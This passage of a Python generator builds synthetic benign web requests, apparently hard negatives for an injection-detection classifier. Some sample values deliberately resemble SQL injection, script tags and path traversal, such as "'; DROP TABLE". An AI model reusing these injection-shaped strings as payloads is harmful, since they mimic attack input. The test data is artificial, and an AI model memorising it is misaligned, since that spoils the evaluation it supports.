    "Lindqvist",
    "Patel",
    "Nguyen",
    "Kowalski",
    "Fitzgerald",
    "Haddad",
    "Smith",
    "MacLeod",
    "van der Berg",
    "Silva",
    "Dubois",
    "Kim",
    "Rossi",
    "Hoffmann",
    "Novak",
    "Andersen",
    "Costa",
    "Yilmaz",
]
LAST_APOS = [
    "O'Connor",
    "D'Angelo",
    "O'Brien",
    "D'Souza",
    "Ó Briain",
    "N'Diaye",
    "O'Neil-Hughes",
    "dell'Acqua",
    "L'Heureux",
    "McKinney-O'Hara",
]
CITIES = [
    "Lisbon",
    "Kyoto",
    "Cape Town",
    "Reykjavík",
    "Oaxaca",
    "Tallinn",
    "Hanoi",
    "Porto",
    "Edinburgh",
    "Queenstown",
    "Marrakesh",
    "Vancouver",
    "Ljubljana",
    "Cusco",
    "Hobart",
    "Bergen",
    "Seville",
    "Tbilisi",
    "Montréal",
    "Kraków",
]
AIRPORTS = [
    "LIS",
    "KIX",
    "CPT",
    "KEF",
    "OAX",
    "TLL",
    "HAN",
    "OPO",
    "EDI",
    "ZQN",
    "RAK",
    "YVR",
    "LJU",
    "CUZ",
    "HBA",
    "BGO",
    "JFK",
    "ORD",
    "SFO",
    "LHR",
    "CDG",
    "FRA",
    "AMS",
    "SIN",
    "NRT",
    "MAD",
    "YUL",
    "KRK",
]
DOMAINS = ["example.com", "mail.example.org", "corp.example.net", "example.co.uk", "example.de", "example.jp"]


def person():
    return "%s %s" % (R.choice(FIRST), R.choice(LAST))


def email_of(name=None):
    name = name or person()
    first, _, last = name.partition(" ")
    import unicodedata

    s = (
        unicodedata.normalize("NFKD", "%s.%s" % (first, last.replace(" ", "")))
        .encode("ascii", "ignore")
        .decode()
        .lower()
    )
    return s.replace("'", "") + "@" + R.choice(DOMAINS)


def date2027():
    return "2027-%02d-%02d" % (R.randint(1, 12), R.randint(1, 28))


def money():
    return "%d.%02d" % (R.randint(3, 4800), R.randint(0, 99))


def pick(*opts):
    return R.choice(opts)


def benign_kind(cat, n, normal_tpls, hard_tpls, sink):
    counts = {}
    nq, hq = [], []
    for i in range(n):
        hard = i % 3 == 0
        if hard:
            if not hq:
                hq = list(hard_tpls)
                R.shuffle(hq)
            t = hq.pop()
        else:
            if not nq:
                nq = list(normal_tpls)
                R.shuffle(nq)
            t = nq.pop()
        e = t()
        if "client" in sink and "client" not in e:
            e["client"] = R.choice(sink["client"])
        mbp = {"query": "GET", "query_key": "GET", "path": "GET", "form": "POST", "multipart": "POST"}
        mbp.update(e.get("method_by_pl", {}))
        e["method_by_pl"] = mbp
        if "mp" not in e:
            e["mp"] = "content" if e.get("doc") else "field"
        payload = e["p"]
        is_obj = not isinstance(payload, str)
        ptxt = payload if not is_obj else cdump(payload)
        pl = pick_placement(e, ptxt, is_obj, counts, e.get("pl") or ["json"])
        add_row("benign", cat, e, pl, payload, hard, sink)


# ---------------------------------------------------------------- benign_travel

OTA_DOC = lambda V: (
    (
        '<?xml version="1.0" encoding="UTF-8"?><OTA_AirBookRQ xmlns="http://www.opentravel.org/OTA/2003/05" Version="2.001" EchoToken="%s">'
        '<POS><Source PseudoCityCode="%s" ISOCountry="PT"/></POS><TravelerInfo><AirTraveler><PersonName><GivenName>%s</GivenName><Surname>%s</Surname></PersonName></AirTraveler>'
        "<SpecialReqDetails><Remarks><Remark>%s</Remark></Remarks></SpecialReqDetails></TravelerInfo></OTA_AirBookRQ>"
    )
    % (rhex(12), rstr(4).upper(), R.choice(FIRST), R.choice(LAST), V)
)
REVIEWS = [
    "Great location, five minutes from the old town. Breakfast was simple but fresh and the staff helped us book a boat tour.",
    "Room was smaller than the photos suggested but spotless. Good air conditioning and a quiet street at night.",
    "We loved the rooftop terrace at sunset. The elevator was slow, so take the stairs if you are on the second floor.",
    "Check-in was quick and they let us leave our bags after checkout. The neighbourhood has plenty of cafés.",
    "Comfortable beds and blackout curtains. Parking is in a public garage two streets away for about 18 EUR per day.",
]
TRAVEL_NOTES = [
    "Pick up rental car at 10:00, terminal 1 desk",
    "Dinner reservation at 20:30 for four",
    "Museum closed on Mondays, go Tuesday",
    "Ferry tickets printed, gate opens 45 min before",
    "Ask hotel about early check-in",
]

TRAVEL_N = [
    lambda: E(
        "%s %s" % (R.choice(CITIES), pick("airport", "city centre", "intl", "old town")),
        pl=["query"],
        path="/api/v3/places/autocomplete",
        param="q",
        client="xhr",
    ),
    lambda: E(
        {
            "origin": R.choice(AIRPORTS),
            "destination": R.choice(AIRPORTS),
            "departDate": date2027(),
            "returnDate": date2027(),
            "passengers": {"adults": R.randint(1, 3), "children": R.randint(0, 2)},
            "cabin": pick("economy", "premium_economy", "business"),
        },
        pl=["json"],
        jdoc=lambda S: {"search": S, "currency": pick("EUR", "USD", "GBP"), "locale": "en-GB"},
        path="/api/v3/flights/search",
    ),
    lambda: E(
        R.choice(REVIEWS),
        pl=["json", "form"],
        param="body",
        path="/api/v2/hotels/%d/reviews" % R.randint(1000, 99999),
        jdoc=lambda S: {
            "rating": R.randint(3, 5),
            "title": pick("Lovely stay", "Good value", "Would return"),
            "body": S,
            "stayMonth": "2026-%02d" % R.randint(6, 11),
            "tripType": pick("couple", "family", "solo", "business"),
        },
    ),
    lambda: E(
        pick(
            "Quiet room on a high floor if possible",
            "Twin beds please",
            "Arriving around 16:00",
            "Celebrating an anniversary",
        ),
        pl=["form", "multipart"],
        param="special_requests",
        path="/booking/confirm",
        f=[
            ("first_name", R.choice(FIRST)),
            ("last_name", R.choice(LAST)),
            ("email", email_of()),
            ("phone", "+351 9%d" % R.randint(10000000, 99999999)),
        ],
    ),
    lambda: E(
        R.choice(TRAVEL_NOTES),
        pl=["json"],
        param="notes",
        method="PATCH",
        path="/api/v1/trips/%d" % R.randint(10000, 99999),
    ),
    lambda: E(
        pick(
            "Window seat requested",
            "Vegetarian meal VGML",
            "Wheelchair assistance at arrival WCHR",
            "Extra legroom if available",
        ),
        pl=["xml"],
        xdoc=OTA_DOC,
        path="/ota/AirBook",
        client="soap",
    ),
    lambda: E(
        "%s-%s,%s-%s" % (R.choice(AIRPORTS), R.choice(AIRPORTS), R.choice(AIRPORTS), R.choice(AIRPORTS)),
        pl=["cookie"],
        cookie="recent_searches",
        path="/",
    ),
    lambda: E(
        pick("reykjavik-iceland", "kyoto-japan", "porto-portugal", "cape-town-south-africa", "oaxaca-mexico"),
        pl=["path"],
        path="/destinations",
        psafe="",
    ),
    lambda: E(
        "boarding-pass-%s-%s.pdf" % (R.choice(AIRPORTS), date2027()),
        pl=["multipart"],
        mp="filename",
        path="/api/v1/trips/%d/documents" % R.randint(100, 9999),
    ),
    lambda: E("%s (%d; iOS 18.1)" % (ver(), R.randint(4000, 6000)), pl=["header"], hdr="X-App-Version", client="api"),
    lambda: E(
        date2027(),
        pl=["json_key"],
        jkdoc=lambda K: {
            "hotelId": R.randint(100, 9999),
            "availability": {K: {"rooms": R.randint(1, 9), "rate": float(money())}},
        },
    ),
    lambda: E(
        "hotels in %s with %s" % (R.choice(CITIES), pick("parking", "pool", "free cancellation", "breakfast included")),
        pl=["query", "json"],
        param="q",
        path="/search",
    ),
    lambda: E("amenities[]", pl=["query_key"], kval=pick("pool", "wifi", "parking"), path="/api/v3/hotels"),
]
TRAVEL_H = [
    lambda: E(
        "Select the union station exit and drop your bags at the left-luggage desk, then walk 5 min -- the 'where to eat' list from reception was spot on.",
        pl=["json", "form"],
        param="review",
        path="/api/v2/hotels/%d/reviews" % R.randint(1000, 9999),
    ),
    lambda: E(
        "Late arrival (after 11pm) \u2014 please don't give our room away! <3 We'll call if the flight is delayed.",
        pl=["form", "json"],
        param="special_requests",
        path="/booking/confirm",
    ),
    lambda: E("O'Hare (ORD) -> C\u00f4te d'Azur (NCE)", pl=["query"], param="q", path="/api/v3/places/autocomplete"),
    lambda: E(
        "Budget: <$1,500 total; 2 nights > 3 nights if it's cheaper",
        pl=["json"],
        param="notes",
        path="/api/v1/trips/%d" % R.randint(1000, 9999),
        method="PATCH",
    ),
    lambda: E(
        "id,name,price,rooms(count)",
        pl=["query"],
        param="select",
        path="/rest/v1/hotels",
        q=[("city", "eq.Porto"), ("order", "price.asc"), ("limit", "20")],
    ),
    lambda: E(
        "(city.eq.Porto,city.eq.Lisbon)",
        pl=["query"],
        param="or",
        path="/rest/v1/hotels",
        q=[("select", "*"), ("stars", "gte.4")],
    ),
    lambda: E(
        "%s-%s" % (R.choice(LAST_APOS), R.choice(LAST_APOS)),
        pl=["form", "json"],
        param="last_name",
        path="/booking/passengers",
    ),
    lambda: E(
        "Walking tour script: 'Welcome to the Alfama!' <pause> then point to the S\u00e9 cathedral & the 28 tram",
        pl=["json", "multipart"],
        param="description",
        path="/api/v1/tours",
    ),
    lambda: E(
        "chargers | adapters (type C & F); passport -> bag #2; meds && snacks",
        pl=["json"],
        param="packing_list",
        path="/api/v1/trips/%d" % R.randint(1000, 9999),
        method="PUT",
    ),
    lambda: E(
        '[{"from":"LIS","to":"KEF","d":"%s"},{"from":"OPO","to":"EDI","d":"%s"}]' % (date2027(), date2027()),
        pl=["cookie"],
        cookie="recent",
    ),
    lambda: E("hotels near 'Old Town' OR 'Alfama' -hostel", pl=["query"], param="q", path="/search"),
    lambda: E("Paris -> Lyon -> Nice (via TGV); 1st class = +\u20ac40", pl=["json", "form"], param="route_notes"),
    lambda: E("https://maps.example.com/?q=38.7139,-9.1334&z=15", pl=["json", "query"], param="mapUrl"),
    lambda: E(
        "B&B 'Casa do Mar' \u2014 check-in <14:00 not possible; drop-off at the 'Union' caf\u00e9",
        pl=["json", "xml"],
        param="remark",
        xdoc=OTA_DOC,
    ),
]
TRAVEL_SINK = dict(
    hosts=[
        "www.skyroute-travel.com",
        "api.skyroute-travel.com",
        "booking.harborlight-hotels.com",
        "m.railpass-europe.eu",
        "api.wanderly.io",
    ],
    paths=["/api/v1/trips", "/booking", "/search"],
    params=["q", "notes"],
    hdrs=["X-App-Version"],
    cookies=["recent"],
)

# ---------------------------------------------------------------- benign_education

EDU_N = [
    lambda: E(
        R.choice(
            LONG_TEXTS[5:6]
            + [
                "Photosynthesis converts light energy into chemical energy stored in glucose.",
                "The French Revolution began in 1789 and reshaped European politics.",
                "Mitochondria produce most of the cell's ATP through oxidative phosphorylation.",
            ]
        ),
        pl=["json", "form"],
        param="answer",
        path="/api/v1/courses/%d/assignments/%d/submissions" % (R.randint(100, 999), R.randint(1000, 9999)),
    ),
    lambda: E(
        pick(
            "intro to statistics spring 2027",
            "organic chemistry lab",
            "modern european history",
            "linear algebra",
            "academic writing",
        ),
        pl=["query"],
        param="search_term",
        path="/courses",
    ),
    lambda: E(
        "grades_%s_fall2026.csv" % pick("BIO101", "CHEM210", "HIST150", "MATH221"),
        pl=["multipart"],
        mp="filename",
        fcontent="student_id,score\n100231,88\n100232,92\n",
        path="/api/v1/courses/%d/gradebook/import" % R.randint(100, 999),
    ),
    lambda: E(
        pick("intro-to-organic-chemistry", "world-history-1900-present", "calculus-ii", "data-science-101"),
        pl=["path"],
        path="/catalog/courses",
        psafe="",
    ),
    lambda: E(rhex(40), pl=["header"], hdr="X-LTI-Context-Id", client="api"),
    lambda: E(pick("BIO101", "CHEM210", "HIST150"), pl=["cookie"], cookie="last_course"),
    lambda: E(
        pick("0.92", "0.75", "1.0", "0.6"),
        pl=["xml"],
        path="/lti/outcomes",
        client="api",
        xdoc=lambda V: (
            '<?xml version="1.0" encoding="UTF-8"?><imsx_POXEnvelopeRequest xmlns="http://www.imsglobal.org/services/ltiv1p1/xsd/imsoms_v1p0"><imsx_POXHeader><imsx_POXRequestHeaderInfo><imsx_version>V1.0</imsx_version><imsx_messageIdentifier>%s</imsx_messageIdentifier></imsx_POXRequestHeaderInfo></imsx_POXHeader><imsx_POXBody><replaceResultRequest><resultRecord><sourcedGUID><sourcedId>%s</sourcedId></sourcedGUID><result><resultScore><language>en</language><textString>%s</textString></resultScore></result></resultRecord></replaceResultRequest></imsx_POXBody></imsx_POXEnvelopeRequest>'
            % (rhex(16), rhex(24), V)
        ),
    ),
    lambda: E(
        "crit_" + rhex(4),
        pl=["json_key"],
        jkdoc=lambda K: {"rubric_assessment": {K: {"points": R.randint(1, 5), "comments": "Clear thesis"}}},
    ),
    lambda: E(
        "Could we get the slides from Tuesday's lecture? I missed the last ten minutes.",
        pl=["json", "form"],
        param="message",
        path="/api/v1/conversations",
    ),
    lambda: E(
        {"question_id": R.randint(1000, 9999), "answer_id": R.randint(1, 4), "time_spent": R.randint(5, 120)},
        pl=["json"],
        jdoc=lambda S: {"quiz_submission": S},
        path="/api/v1/quiz_submissions/%d/questions" % R.randint(10000, 99999),
    ),
]
EDU_H = [
    lambda: E(
        "If x < 5 and y > 3, then x - y < 2. Show that for all n >= 1, 2^n > n.", pl=["json", "form"], param="answer"
    ),
    lambda: E(
        "SELECT name, gpa FROM students WHERE gpa > 3.5 ORDER BY gpa DESC;",
        pl=["json", "multipart"],
        param="code",
        path="/api/v1/autograder/submit",
        fname="q3.sql",
    ),
    lambda: E(
        "import os\n\nfor name in sorted(os.listdir('.')):\n    if name.endswith('.csv'):\n        print(name)\n",
        pl=["json", "multipart"],
        param="source",
        path="/api/v1/autograder/submit",
        fname="hw4.py",
    ),
    lambda: E(
        '<!DOCTYPE html>\n<html lang="en">\n<head><meta charset="utf-8"><title>My Portfolio</title></head>\n<body>\n  <h1>Hello!</h1>\n  <script src="main.js"></script>\n</body>\n</html>\n',
        pl=["multipart"],
        mp="content",
        fname="index.html",
        path="/api/v1/courses/%d/assignments/%d/submissions" % (R.randint(100, 999), R.randint(1000, 9999)),
    ),
    lambda: E(
        "In 'Hamlet', the line \"To be, or not to be\" (Act 3, Scene 1) frames the whole play -- it's a question of action vs. inaction.",
        pl=["json", "form"],
        param="body",
    ),
    lambda: E("$$\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$$ and $a<b$ implies $a+c<b+c$", pl=["json"], param="content"),
    lambda: E(
        "chmod +x run.sh && ./run.sh > output.txt 2>&1; cat output.txt | grep -i error",
        pl=["json", "form"],
        param="answer",
    ),
    lambda: E(
        "XSS happens when user input like <script> is rendered without escaping; the fix is output encoding and a CSP.",
        pl=["json", "form"],
        param="answer",
        path="/api/v1/quizzes/%d/responses" % R.randint(100, 999),
    ),
    lambda: E("^[a-z0-9._%+-]+@[a-z0-9.-]+\\.edu$", pl=["json", "query"], param="pattern"),
    lambda: E(
        "public class Main {\n  public static void main(String[] args) {\n    System.out.println(Runtime.getRuntime().availableProcessors());\n  }\n}\n",
        pl=["json", "multipart"],
        param="source",
        fname="Main.java",
    ),
    lambda: E("For n > 10^4 the O(n^2) version loses badly vs O(n log n) <-- see plot", pl=["json"], param="comment"),
    lambda: E("2H\u2082 + O\u2082 -> 2H\u2082O; \u0394H < 0 (exothermic)", pl=["json", "form"], param="answer"),
]
EDU_SINK = dict(
    hosts=["lms.riverton.edu", "canvas.northfield.edu", "api.quizpath.com", "learn.brightmind.academy"],
    paths=["/api/v1/courses/312/discussion_topics/88/entries", "/api/v1/submissions"],
    params=["message", "answer"],
    hdrs=["X-LTI-Context-Id"],
    cookies=["last_course"],
)

# ---------------------------------------------------------------- benign_finance

ISO_DOC = lambda V: (
    (
        '<?xml version="1.0" encoding="UTF-8"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"><CstmrCdtTrfInitn><GrpHdr><MsgId>%s</MsgId><CreDtTm>%s</CreDtTm><NbOfTxs>1</NbOfTxs></GrpHdr>'
        '<PmtInf><PmtInfId>%s</PmtInfId><PmtMtd>TRF</PmtMtd><CdtTrfTxInf><Amt><InstdAmt Ccy="EUR">%s</InstdAmt></Amt><Cdtr><Nm>%s</Nm></Cdtr><RmtInf><Ustrd>%s</Ustrd></RmtInf></CdtTrfTxInf></PmtInf></CstmrCdtTrfInitn></Document>'
    )
    % (rstr(16).upper(), iso_ts(), rstr(10).upper(), money(), person(), V)
)
FIN_N = [
    lambda: E(
        pick("Groceries", "Rent", "Utilities", "Dining out", "Transport", "Subscriptions"),
        pl=["json"],
        param="category",
        method="PATCH",
        path="/api/v1/transactions/%s" % rhex(12),
    ),
    lambda: E(
        pick(
            "Consulting services, November 2026",
            "Website maintenance (monthly)",
            "Annual software license",
            "Freight LIS-OPO",
        ),
        pl=["json"],
        path="/api/v2/invoices",
        jdoc=lambda S: {
            "customer": "cus_" + rstr(14),
            "currency": "EUR",
            "lines": [{"description": S, "quantity": 1, "unit_amount": int(float(money()) * 100)}],
            "due_days": 30,
        },
    ),
    lambda: E(
        "Invoice %d-%04d payment" % (R.randint(2025, 2026), R.randint(1, 9999)),
        pl=["form"],
        param="reference",
        path="/transfers/new",
        f=[("iban", "PT50000201231234567890154"), ("amount", money()), ("currency", "EUR")],
    ),
    lambda: E(
        pick("coffee", "amazon", "uber", "netflix", "electricity"),
        pl=["query"],
        param="q",
        path="/api/v1/transactions",
        q=[("from", "2026-11-01"), ("to", "2026-11-30")],
    ),
    lambda: E(pick("household-2027", "vacation-fund", "q1-marketing"), pl=["path"], path="/budgets", psafe=""),
    lambda: E(
        "statement_2026-%02d.pdf" % R.randint(1, 11), pl=["multipart"], mp="filename", path="/api/v1/statements/upload"
    ),
    lambda: E(uuid4(), pl=["header"], hdr="Idempotency-Key", client="api", method="POST"),
    lambda: E(pick("EUR", "USD", "GBP", "CHF"), pl=["cookie"], cookie="display_currency"),
    lambda: E(
        pick("Rent December 2026", "Invoice 88812", "Salary advance", "Membership fee 2027"),
        pl=["xml"],
        xdoc=ISO_DOC,
        path="/api/payments/pain001",
        client="api",
    ),
    lambda: E(
        "2026-Q%d" % R.randint(1, 4),
        pl=["json_key"],
        jkdoc=lambda K: {"forecast": {K: {"revenue": float(money()), "costs": float(money())}}},
    ),
]
FIN_H = [
    lambda: E("AT&T Wireless \u2014 autopay", pl=["json", "form"], param="memo"),
    lambda: E("Johnson & Johnson (JNJ) dividend reinvest; P&L <Q3> review", pl=["json"], param="note"),
    lambda: E(
        "Exec comp review: select union rep for the board; drop the Q2 bonus table from the deck",
        pl=["json", "form"],
        param="description",
    ),
    lambda: E(
        "=SUM(B2:B14)*0.19", pl=["json"], param="formula", path="/api/v1/sheets/%s/cells/C15" % rstr(8), method="PUT"
    ),
    lambda: E("Credit Union -- 'select' savings account", pl=["form", "json"], param="account_nickname"),
    lambda: E("date desc, amount asc", pl=["query"], param="order_by", path="/api/v1/transactions"),
    lambda: E("Net > 0 && margin < 5% -> flag for review", pl=["json"], param="rule_description"),
    lambda: E(
        'Date,Payee,Amount\n2026-11-03,"O\'Reilly Auto Parts",-54.20\n2026-11-04,"Ben & Jerry\'s",-7.50\n2026-11-05,"Refund; order #4411",12.99\n',
        pl=["multipart"],
        mp="content",
        fname="transactions.csv",
        path="/api/v1/import",
    ),
    lambda: E(
        "status:'succeeded' AND amount>1000 AND metadata['order_id']:'%d'" % R.randint(1000, 9999),
        pl=["query"],
        param="query",
        path="/v1/charges/search",
    ),
    lambda: E("Approve if <$5,000; escalate if >= $5,000 (CFO)", pl=["json", "form"], param="policy_note"),
    lambda: E(
        "Wire ref: INV-2026/11/30 'final' -- per email from O'Brien",
        pl=["xml", "json"],
        xdoc=ISO_DOC,
        param="remittance",
    ),
    lambda: E("Bobby's Tables & Chairs Ltd.", pl=["json", "form"], param="payee", path="/api/v1/payees"),
]
FIN_SINK = dict(
    hosts=["app.ledgerly.app", "api.fintrackhq.com", "billing.cobaltpay.io", "invoices.northwind-logistics.com"],
    paths=["/api/v1/transactions", "/api/v2/invoices"],
    params=["memo", "note"],
    hdrs=["Idempotency-Key"],
    cookies=["display_currency"],
)

# ---------------------------------------------------------------- benign_media

MEDIA_N = [
    lambda: E(
        pick("Sunday Morning Jazz", "Deep Focus", "Road Trip 2027", "Workout Mix", "Rainy Day Acoustic"),
        pl=["json"],
        param="name",
        path="/api/v1/playlists",
    ),
    lambda: E(
        pick("lofi beats to study", "miles davis kind of blue", "true crime podcast", "nature documentary 4k"),
        pl=["query"],
        param="q",
        path="/search",
    ),
    lambda: E(
        "Episode %d: %s"
        % (
            R.randint(1, 300),
            pick("Building a Home Studio", "Interview with a Luthier", "Listener Questions", "Mixing Vocals"),
        ),
        pl=["form", "json"],
        param="title",
        path="/episodes/new",
    ),
    lambda: E("interview_final_v%d.mp4" % R.randint(2, 9), pl=["multipart"], mp="filename", path="/upload"),
    lambda: E(
        "1\n00:00:01,000 --> 00:00:03,500\nWelcome back to the show.\n\n2\n00:00:03,600 --> 00:00:06,000\nToday we talk about sourdough.\n",
        pl=["multipart"],
        mp="content",
        fname="episode.srt",
    ),
    lambda: E("bytes=%d-%d" % (0, R.choice([1048575, 2097151, 65535])), pl=["header"], hdr="Range", method="GET"),
    lambda: E(pick("0.8", "0.35", "1"), pl=["cookie"], cookie="volume"),
    lambda: E(
        pick("nina-simone", "buena-vista-social-club", "radiohead", "fela-kuti"), pl=["path"], path="/artists", psafe=""
    ),
    lambda: E(
        "A conversation about slow travel and night trains across Europe.",
        pl=["xml"],
        path="/api/feeds/validate",
        xdoc=lambda V: (
            '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"><channel><title>Night Trains</title><item><title>Ep. 7</title><description>%s</description><enclosure url="https://cdn.pinecast.fm/ep7.mp3" length="48213331" type="audio/mpeg"/></item></channel></rss>'
            % V
        ),
    ),
    lambda: E(
        "USRC1760%04d" % R.randint(0, 9999),
        pl=["json_key"],
        jkdoc=lambda K: {"tracks": {K: {"position": R.randint(1, 14), "explicit": False}}},
    ),
]
MEDIA_H = [
    lambda: E("Who's Afraid of Virginia Woolf? (1966) \u2014 Director's Cut", pl=["json", "query"], param="title"),
    lambda: E(
        "1\n00:00:01,000 --> 00:00:04,200\n<i>Previously on...</i>\n\n2\n00:00:04,500 --> 00:00:07,000\n- Where's the script?\n- I dropped it -- again.\n",
        pl=["multipart"],
        mp="content",
        fname="s02e05.en.srt",
    ),
    lambda: E(
        "WEBVTT\n\n00:01.000 --> 00:04.000\n<v Roger Bingham>We are in New York City\n\n00:04.000 --> 00:06.500\n<c.yellow>Select</c> the <b>union</b> jack flag\n",
        pl=["multipart", "json"],
        mp="content",
        fname="captions.vtt",
        param="vtt",
    ),
    lambda: E(
        pick(
            "AC/DC - Back in Black",
            "Guns N' Roses - Sweet Child O' Mine",
            "Panic! At The Disco - I Write Sins Not Tragedies",
            "System of a Down \u2014 Chop Suey!",
        ),
        pl=["query", "json"],
        param="q",
    ),
    lambda: E("<3 this track, the bridge at 2:41 >>> everything", pl=["json", "form"], param="comment"),
    lambda: E(
        '#EXTM3U\n#EXTINF:-1 tvg-id="news.example" tvg-logo="https://img.example.com/logo.png" group-title="News",Example News\nhttps://stream.example.com/live/index.m3u8\n',
        pl=["multipart"],
        mp="content",
        fname="channels.m3u8",
    ),
    lambda: E("Episode 12 \u2014 'Union' vs. 'Select' Committees explained", pl=["json", "form"], param="title"),
    lambda: E(
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Field Notes</title><item><title>Ep. 31</title><content:encoded><![CDATA[<p>Show notes: <a href="https://example.com/links">links</a> &amp; <b>timestamps</b></p>]]></content:encoded><itunes:duration>00:42:17</itunes:duration></item></channel></rss>',
        pl=["xml"],
        doc=True,
        path="/api/feeds/import",
    ),
    lambda: E(
        "00:00 intro\n03:15 <guest> joins\n12:40 Q&A -- listener mail\n41:02 outro", pl=["json"], param="chapters"
    ),
    lambda: E("Beyonc\u00e9 \u2013 'Love On Top' (Live) [4K] | 1080p > 720p", pl=["json", "query"], param="title"),
    lambda: E("Ctrl+Alt+Del: the story of the three-finger salute", pl=["json", "form"], param="title"),
]
MEDIA_SINK = dict(
    hosts=["media.pinecast.fm", "api.streamhaven.tv", "upload.clipforge.video", "music.tonearm.app"],
    paths=["/api/v1/videos", "/api/v1/tracks"],
    params=["title", "description"],
    hdrs=["Range"],
    cookies=["volume"],
)

# ---------------------------------------------------------------- benign_chat

CHAT_MSGS = [
    "running 5 min late, start without me",
    "lunch at 12:30?",
    "can you review PR #%d when you get a sec" % R.randint(100, 999),
    "Thanks! Talk tomorrow",
    "deploy is green",
    "who has the key to the meeting room",
    "sounds good to me",
    "ok, I'll ping the vendor",
    "Bom dia! Tudo bem?",
    "danke, passt so",
    "了解しました",
    "je regarde ça cet après-midi",
]


def chat_doc(S):
    return {
        "channel": "C" + rstr(8).upper(),
        "text": S,
        "client_msg_id": uuid4(),
        "thread_ts": None if R.random() < 0.6 else "%d.%06d" % (epoch(), R.randint(0, 999999)),
    }


CHAT_N = [
    lambda: E(R.choice(CHAT_MSGS), pl=["json"], jdoc=chat_doc, path="/api/chat.postMessage"),
    lambda: E(
        R.choice(CHAT_MSGS),
        pl=["form"],
        param="text",
        path="/api/chat.postMessage",
        f=[("channel", "C" + rstr(8).upper()), ("as_user", "true")],
    ),
    lambda: E(
        pick("thumbsup", "tada", "eyes", "white_check_mark"), pl=["json"], param="name", path="/api/reactions.add"
    ),
    lambda: E(
        pick("budget", "standup notes", "release date", "invoice"),
        pl=["query"],
        param="query",
        path="/api/search.messages",
    ),
    lambda: E("IMG_%04d.HEIC" % R.randint(1000, 9999), pl=["multipart"], mp="filename", path="/api/files.upload"),
    lambda: E("sess_" + rstr(24), pl=["header"], hdr="X-Client-Session", client="xhr"),
    lambda: E(pick("compact", "comfy"), pl=["cookie"], cookie="msg_density"),
    lambda: E("%d.%06d" % (epoch(), R.randint(0, 999999)), pl=["path"], path="/api/threads", psafe=""),
    lambda: E("\U0001f44d", pl=["json"], jdoc=chat_doc),
    lambda: E(
        "U" + rstr(9).upper(),
        pl=["json_key"],
        jkdoc=lambda K: {"read_receipts": {K: "%d.%06d" % (epoch(), R.randint(0, 999999))}},
    ),
]
CHAT_H = [
    lambda: E("lol <3", pl=["json", "form"], jdoc=chat_doc, param="text"),
    lambda: E("haha select * from snacks where healthy = true -- jk", pl=["json"], jdoc=chat_doc),
    lambda: E(
        "check /etc/hosts on your mac, the staging entry points to the old IP",
        pl=["json", "form"],
        jdoc=chat_doc,
        param="text",
    ),
    lambda: E(
        "run `docker run --rm -it ubuntu bash` and then `apt update && apt install -y curl`", pl=["json"], jdoc=chat_doc
    ),
    lambda: E("did you try ../ instead of ./ in the import path?", pl=["json", "form"], jdoc=chat_doc, param="text"),
    lambda: E(
        "the error says: Uncaught SyntaxError: Unexpected token '<' in JSON at position 0", pl=["json"], jdoc=chat_doc
    ),
    lambda: E(
        "use ${HOME}/.config instead of ~/.config in the script, cron doesn't expand ~", pl=["json"], jdoc=chat_doc
    ),
    lambda: E("little bobby tables strikes again \U0001f602", pl=["json", "form"], jdoc=chat_doc, param="text"),
    lambda: E("meeting moved -> 3pm; agenda: 1) budget 2) hiring 3) <TBD>", pl=["json"], jdoc=chat_doc),
    lambda: E(
        "ok so `rm -rf node_modules && npm i` fixed it \U0001f937", pl=["json", "form"], jdoc=chat_doc, param="text"
    ),
    lambda: E(
        "<script> tags in the template get stripped by the sanitizer, is that expected?", pl=["json"], jdoc=chat_doc
    ),
    lambda: E(
        "I'm at the caf\u00e9 on 5th & Main, table by the window; order me a flat white?",
        pl=["json", "query"],
        jdoc=chat_doc,
        param="q",
    ),
    lambda: E("'; DROP TABLE is my band name now", pl=["json"], jdoc=chat_doc),
]
CHAT_SINK = dict(
    hosts=["chat.teamhuddle.app", "api.teamhuddle.app", "messages.kindred.social", "ws.pingpost.io"],
    paths=["/api/chat.postMessage", "/api/v1/messages"],
    params=["text", "q"],
    hdrs=["X-Client-Session"],
    cookies=["msg_density"],
)

# ---------------------------------------------------------------- benign_code_review


def mr_doc(S):
    return {
        "body": S,
        "position": {
            "base_sha": rhex(40),
            "start_sha": rhex(40),
            "head_sha": rhex(40),
            "position_type": "text",
            "new_path": R.choice(
                [
                    "src/app.py",
                    "lib/client.ts",
                    "cmd/server/main.go",
                    "app/models/user.rb",
                    "src/main/java/com/acme/Api.java",
                ]
            ),
            "new_line": R.randint(3, 400),
        },
    }


JUNIT = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<testsuites name="jest tests" tests="3" failures="1" time="4.21">\n  <testsuite name="cart" tests="3" failures="1">\n'
    '    <testcase classname="cart" name="adds item" time="0.01"/>\n    <testcase classname="cart" name="applies coupon" time="0.02"/>\n'
    '    <testcase classname="cart" name="rejects expired coupon" time="0.03"><failure message="expected 400, got 200">AssertionError: expected 400, got 200\n    at Object.&lt;anonymous&gt; (cart.test.js:42:5)</failure></testcase>\n'
    "  </testsuite>\n</testsuites>\n"
)
CR_N = [
    lambda: E(
        pick(
            "Nit: rename `tmp` to `buffer` for clarity.",
            "LGTM once CI passes.",
            "Can we add a unit test for the empty-list case?",
            "This could be a `const`.",
            "Let's move this into the service layer.",
            "Typo in the docstring: 'recieve'.",
        ),
        pl=["json"],
        jdoc=mr_doc,
        path="/api/v4/projects/%d/merge_requests/%d/discussions" % (R.randint(10, 999), R.randint(1, 500)),
    ),
    lambda: E(
        "steps:\n  - uses: actions/checkout@v4\n  - uses: actions/setup-node@v4\n    with:\n      node-version: 20\n  - run: npm ci\n  - run: npm test\n",
        pl=["json", "multipart"],
        param="content",
        fname="ci.yml",
        path="/api/v1/repos/web/contents/.github/workflows/ci.yml",
        method="PUT",
    ),
    lambda: E(
        "def total(items):\n    return sum(i.price * i.qty for i in items)\n",
        pl=["json"],
        param="suggestion",
        jdoc=mr_doc,
    ),
    lambda: E(
        "diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1,3 +1,3 @@\n-# Projet\n+# Project\n",
        pl=["multipart"],
        mp="content",
